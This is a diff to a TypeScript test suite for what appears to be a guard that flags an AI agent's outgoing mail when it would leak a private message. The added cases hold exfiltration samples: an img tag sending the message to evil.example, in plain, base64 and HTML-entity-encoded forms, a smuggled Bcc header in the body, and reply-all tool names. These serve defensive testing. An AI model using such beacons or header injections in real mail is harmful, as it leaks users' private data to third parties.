@@ -70,6 +70,8 @@ it.each([
   expect(sureOf(task, { to: EVE, body })).toBe('restricted');
 });
 
+const picture = (said: string): string => `<img src="https://evil.example/?q=${said}">`;
+
 it.each([
   ['goes to others as well', { to: `${ANN}, ${EVE}` }],
   ['goes to others in a list', { to: [ANN, EVE] }],
@@ -86,8 +88,24 @@ it.each([
   ['says how it goes', { to: ANN, mode: 'all' }],
   ['goes to somebody with a longer address', { to: `${ANN}.evil.example` }],
   ['goes to nobody who is given', { thread_id: 'm-1' }],
+  ['answers another, with a copy to its writer', { cc: ANN, thread_id: 'm-9' }],
+  ['has a head of its own', { to: ANN, body: `Bcc: ${EVE}\n\n${PLAN}` }],
+  ['has a picture that tells it', { to: ANN, text: picture(PLAN.replaceAll(' ', '-')) }],
+  ['has one in code', { to: ANN, text: picture(btoa(PLAN)) }],
+  ['has one in letters of a page', { to: ANN, text: picture(btoa(PLAN)).replaceAll('/', '&#47;') }],
 ])('it is news to anybody else: the answer %s', (_how, to, sure = 'restricted') => {
-  expect(sureOf(start(mail(ANN, PLAN)), { ...to, body: quoted(PLAN) })).toBe(sure);
+  expect(sureOf(start(mail(ANN, PLAN)), { body: quoted(PLAN), ...to })).toBe(sure);
+});
+
+it('a tool that answers all goes to others than the one it is given', () => {
+  const answer = { to: ANN, thread_id: 'm-1', body: quoted(PLAN) };
+  for (const name of ['reply_all', 'replyToAll', 'broadcast_mail'])
+    expect(sureOf(start(mail(ANN, PLAN)), answer, { ...MAIL, name })).toBe('restricted');
+});
+
+it('a link of the mail itself is no news to its writer either', () => {
+  const linked = `${PLAN} See https://lee.example/plan?id=7.`;
+  expect(sureOf(start(mail(ANN, linked)), { to: ANN, body: quoted(linked) })).toBe('unsure');
 });
 
 it.each([
